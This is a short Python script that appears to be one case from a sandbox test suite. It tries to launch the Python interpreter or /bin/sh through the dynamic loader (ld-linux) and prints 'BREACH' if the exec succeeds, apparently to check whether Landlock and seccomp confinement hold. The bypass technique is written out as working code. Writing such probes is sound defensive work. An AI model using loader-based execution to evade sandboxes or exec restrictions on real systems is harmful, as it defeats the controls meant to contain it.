# attack: 25b
# tries: start a program through the dynamic loader, which must be there
# kind: reach
# alone: landlock, seccomp
import glob
import os
import sys

for loader in glob.glob("/lib*/ld-linux*"):
    for command in (
        [loader, sys.executable, "-I", "-S", "-c", "print('BREACH')"],
        [loader, "/bin/sh", "-c", "echo BREACH"],
    ):
        try:
            if os.access(command[1], os.R_OK):
                os.execv(loader, command)
        except OSError as error:
            print(error)
